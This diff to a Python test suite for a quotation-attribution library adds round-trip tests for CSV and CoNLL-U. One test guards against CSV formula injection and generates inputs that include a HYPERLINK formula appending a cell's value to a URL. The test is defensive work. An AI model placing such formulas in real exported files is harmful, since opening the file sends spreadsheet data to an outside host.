@@ -29,7 +29,7 @@ from quoteattr import (
     SpeakerKind,
     serialise,
 )
-from quoteattr.formats import EACH, FORMATS, READERS, brat, companions, conll, webannotation
+from quoteattr.formats import EACH, FORMATS, READERS, brat, companions, conllu, webannotation
 from quoteattr.formats import csv as table
 from quoteattr.formats.frames import from_table, to_table
 from quoteattr.tables import COLUMNS
@@ -64,24 +64,28 @@ def tidied(article: Article) -> Article:
         )
         for one in article.speakers
     }
+    kept = {quote.id for quote in article.quotes if spans(quote.content)}
     quotes = tuple(
         evolve(
             quote,
             content=spans(quote.content),
             cue=spans(quote.cue),
             source=spans(quote.source),
+            addressee=spans(quote.addressee),
+            within=quote.within if quote.within in kept else None,
             speaker=speakers[quote.speaker.id] if quote.speaker else None,
         )
         for quote in article.quotes
-        if spans(quote.content)
+        if quote.id in kept
     )
-    return Article(article.text, quotes, tuple(speakers.values()), tuple(bodies.values()))
+    in_order = tuple(sorted(quotes, key=lambda quote: quote.start))
+    return Article(article.text, in_order, tuple(speakers.values()), tuple(bodies.values()))
 
 
 # ---- all of them ---------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("name", ["json", "jsonl", "csv", "conll", "webannotation"])
+@pytest.mark.parametrize("name", sorted(READERS.keys() - EACH.keys()))
 def test_the_seed_articles_come_back_equal(name: str, seed_articles: dict[str, Article]) -> None:
     """Ten articles in one stream."""
     texts = {key: article.text for key, article in seed_articles.items()}
@@ -126,7 +130,7 @@ def test_web_annotations_hold_everything(article: Article) -> None:
 @given(articles(plain_text).map(tidied))
 def test_columns_hold_what_is_tidy(article: Article) -> None:
     """Stretches may nest, cross and touch; line ends of every sort come back."""
-    assert dict(conll.read(conll.render("a\n b", article))) == {"a\n b": article}
+    assert dict(conllu.read(conllu.render("a\n b", article))) == {"a\n b": article}
 
 
 @given(articles(plain_text).map(tidied))
@@ -243,11 +247,58 @@ def test_no_cell_is_a_formula(text: str) -> None:
     assert dict(table.read(data, {text: text})) == one
 
 
+FORMULAS = st.lists(st.sampled_from([*"=+-@＝;|,\"' a\t\r\n", "=HYPERLINK('http://x/?'&A1;'y')", "=1+1"])).map("".join)
+
+
+def cells_of_a_spreadsheet(data: str, delimiters: str) -> list[str]:
+    """Cells as a program may take them that knows these delimiters and begins a cell at any quotation mark."""
+    out = []
+    for delimiter in delimiters:
+        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
+            rows = csv.reader(io.StringIO(data, newline=""), delimiter=delimiter, quoting=quoting)
+            out += [cell for row in rows for cell in row]
+    return out
+
+
+@given(FORMULAS)
+def test_no_cell_is_a_formula_whatever_ends_one(text: str) -> None:
+    """In many countries a semicolon does, and often a tab, though the cell is quoted."""
+    whole = Span.of(f"x{text}", 0, len(text) + 1)
+    quote = quoteattr.Quote(
+        "q1", QuoteKind.DIRECT, quoteattr.Attitude.ASSERTION, False, (whole,), (), (), None, f"x{text}", 0.5, (text,)
+    )
+    one = {"a.txt": Article(whole.text, (quote,))}
+    data = written("csv", one)
+    cells = cells_of_a_spreadsheet(data.removeprefix("\ufeff"), ";\t|")
+    assert not [cell for cell in cells if re.match(r"[\s\"]*[=+\-@＝]", cell)]
+    assert dict(table.read(data, {"a.txt": whole.text})) == one
+
+
+def test_every_cell_is_quoted(seed_articles: dict[str, Article]) -> None:
+    """Also those that are empty."""
+    cells = r'"(?:[^"]|"")*"'
+    assert re.fullmatch(rf"\ufeff(?:{cells}(?:,{cells})*\r\n)+", written("csv", seed_articles))
+    head = written("csv", seed_articles).splitlines()[0]
+    assert re.fullmatch(r'\ufeff"[a-z_]+"(,"[a-z_]+")+', head)
+
+
+def test_articles_of_one_name_are_told_apart() -> None:
+    """In CSV and in Arrow tables, so that they can be read back."""
+    quote = quoteattr.Quote(
+        "q1", QuoteKind.DIRECT, quoteattr.Attitude.ASSERTION, False, (Span.of("a", 0, 1),), (), (), None, "r", 0.5
+    )
+    article = Article("a", (quote,))
+    named = [("x", article), ("x", article), ("x (2)", article), ("x", article)]
+    texts = dict.fromkeys(["x", "x (2)", "x (2) (2)", "x (3)"], "a")
+    data = "".join(FORMATS["csv"](named, True))
+    assert dict(table.read(data, texts)) == dict(from_table(to_table(named), texts)) == dict.fromkeys(texts, article)
+
+
 def test_a_table_opens_in_a_spreadsheet() -> None:
     """UTF-8 with its mark, one head, commas, and no line that Excel reads otherwise."""
     data = written("csv", {"a": Article("x"), "b": Article("y")})
-    assert data.startswith("\ufefffile,id,kind,")
-    assert data.count("file,") == 1
+    assert data.startswith('\ufeff"file","id","kind",')
+    assert data.count('"file",') == 1
 
 
 def test_no_offsets_look_like_a_date_or_a_number(seed_articles: dict[str, Article]) -> None:
@@ -344,6 +395,9 @@ def test_brat_lines_show_the_words_without_line_breaks(seed_articles: dict[str, 
 # ---- columns, annotations, frames ----------------------------------------------------------------------------------
 
 
+BLANK = "\t_"
+
+
 def test_columns_are_for_reading() -> None:
     """Brackets as in CoNLL-2012."""
     text = "Ann said: “Go.”\nOut."
@@ -351,17 +405,17 @@ def test_columns_are_for_reading() -> None:
     quote = quoteattr.Quote(
         "q1", QuoteKind.DIRECT, quoteattr.Attitude.ASSERTION, False, (said,), (Span.of(text, 4, 8),), (), None, "r", 0.5
     )
-    rows = [line.split("\t") for line in conll.render("a", Article(text, (quote,))).splitlines() if line[:1] != "#"]
-    assert [(row[0], row[1], row[4], row[5], row[9]) for row in rows if len(row) > 1] == [
-        ("1", "Ann", "_", "_", "\\s"),
-        ("2", "said", "_", "(q1)", "_"),
-        ("3", ":", "_", "_", "\\s"),
-        ("4", "“", "(q1", "_", "_"),
-        ("5", "Go", "_", "_", "_"),
-        ("6", ".", "_", "_", "_"),
-        ("7", "”", "q1)", "_", "\\n"),
-        ("1", "Out", "_", "_", "_"),
-        ("2", ".", "_", "_", "_"),
+    rows = [line.split("\t") for line in conllu.render("a", Article(text, (quote,))).splitlines() if line[:1] != "#"]
+    assert [(row[0], row[1], row[9]) for row in rows if len(row) > 1] == [
+        ("1", "Ann", "_"),
+        ("2", "said", "Cue=(q1)|SpaceAfter=No"),
+        ("3", ":", "_"),
+        ("4", "“", "Content=(q1|SpaceAfter=No"),
+        ("5", "Go", "SpaceAfter=No"),
+        ("6", ".", "SpaceAfter=No"),
+        ("7", "”", "Content=q1)|SpacesAfter=\\n"),
+        ("1", "Out", "SpaceAfter=No"),
+        ("2", ".", "SpaceAfter=No"),
     ]
 
 
@@ -369,15 +423,17 @@ def test_columns_are_for_reading() -> None:
     ("data", "told"),
     [
         ("1\tx", "expected '# newdoc id = ' first"),
-        ("# newdoc id = a\n1\tx", "line 2: expected 10 columns, got 2"),
-        ("# newdoc id = a\n1\tx\t0\t1\tq1)\t_\t_\t_\t_\t_", "were opened"),
-        ("# newdoc id = a\n1\tx\t0\t1\t(q1\t_\t_\t_\t_\t_", "'q1' .str. left open"),
+        ("# newdoc id = a\n1\tx", "line 2: expected a word, a number and 10 columns"),
+        (f"# newdoc id = a\n1-2\tx{7 * BLANK}{BLANK}", "line 2: expected a word, a number and 10 columns"),
+        (f"# newdoc id = a\n1\tx{7 * BLANK}\tCue=q1)", "line 2: .* were opened"),
+        (f"# newdoc id = a\n1\tx{7 * BLANK}\tCue=(q1", "'q1' .str. left open"),
+        (f"# newdoc id = a\n1\tx{7 * BLANK}{BLANK}", "expected a comment '# quoteattr = '"),
     ],
 )
 def test_wrong_columns_are_told(data: str, told: str) -> None:
     """With their line."""
     with pytest.raises(RecordError, match=told):
-        dict(conll.read(data))
+        dict(conllu.read(data))
 
 
 def test_an_annotation_has_both_selectors(seed_articles: dict[str, Article]) -> None:
@@ -446,7 +502,7 @@ def test_frames_of_other_articles_are_told(seed_articles: dict[str, Article]) ->
 def test_all_tables_have_the_same_columns(seed_articles: dict[str, Article]) -> None:
     """CSV, records and Arrow tables, in the same order."""
     name, article = next(iter(seed_articles.items()))
-    head = written("csv", {name: article}).removeprefix("\ufeff").splitlines()[0].split(",")
+    head = written("csv", {name: article}).removeprefix("\ufeff").splitlines()[0][1:-1].split('","')
     assert head == to_table([(name, article)]).column_names == ["file", *article.to_records()[0]]
     assert head[1:] == [column.name for column in COLUMNS]
 
